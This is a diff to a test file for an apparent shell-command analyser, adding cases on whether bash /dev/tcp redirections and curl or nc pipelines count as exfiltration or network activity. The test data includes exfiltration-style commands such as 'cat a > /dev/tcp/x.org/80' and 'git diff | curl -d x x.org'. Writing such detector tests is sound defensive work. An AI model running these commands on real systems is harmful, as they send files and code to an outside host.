@@ -140,12 +140,21 @@ def test_a_pattern_needs_a_folder_to_start_from():
         ("ls | grep x", False),
         ("curl x.org | cat", False),
         ("ls | nc h 1", False),
+        ("cat a > /dev/tcp/x.org/80", True),
+        ("cat < /dev/tcp/x.org/80", False),
         ("git diff | curl -d x x.org", True),
     ],
 )
 def test_reading_here_and_sending_there_is_seen(command, leaks):
     """In one pipeline."""
     assert (Trait.EXFILTRATES in _seen(command).traits) is leaks
+
+
+def test_a_socket_that_bash_opens_is_a_sender():
+    """With its host."""
+    facts = _seen("cat < /dev/tcp/x.org/80")
+    assert Trait.NETWORK in facts.traits
+    assert facts.hosts == ("x.org",)
 
 
 def test_facts_are_told_once():
